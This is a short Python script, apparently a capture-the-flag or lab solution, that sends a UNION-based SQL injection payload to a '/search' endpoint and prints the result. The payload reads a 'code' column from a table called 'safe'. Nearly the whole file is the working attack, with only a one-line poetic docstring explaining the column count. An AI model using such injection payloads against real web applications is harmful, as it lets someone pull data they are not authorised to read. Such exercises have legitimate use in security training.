"""The words end, and a second SELECT begins: five columns, as the answer has, and one of them from the safe."""

from target import http

words = "x' UNION SELECT 901, code, 1, 1, 1 FROM safe --"
print(http.get("/search", params={"words": words}).text)
